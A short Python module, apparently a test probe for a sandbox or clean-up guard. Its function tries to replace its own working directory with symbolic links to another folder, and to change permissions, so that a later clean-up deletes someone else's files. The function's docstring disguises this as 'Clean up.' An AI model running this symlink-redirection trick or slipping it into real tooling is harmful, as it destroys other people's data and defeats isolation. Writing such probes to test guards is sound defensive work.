# range: {"unguarded": false}
"""Replaces its own folder by a link, so that the clean-up deletes somebody else's files."""

import os


def replace_own_folder(targets: dict) -> dict:
    """Clean up."""
    here, folder = os.getcwd(), os.path.dirname(targets["keepsake"])
    print("PRIMITIVE", here)
    said = []
    for act in (lambda: os.rename(here, here + "-moved"), lambda: os.symlink(folder, here), lambda: os.rmdir(here), lambda: os.symlink(folder, "inside"), lambda: os.mkdir("deep"), lambda: os.chmod("deep", 0), lambda: os.symlink(folder, "deep2"), lambda: os.chmod(".", 0o000), lambda: os.rename("../" + os.path.basename(here), "../other"), lambda: os.mkdir("../beside")):
        try:
            said.append(str(act()))
        except OSError as error:
            said.append(str(error))
    return {"said": said}
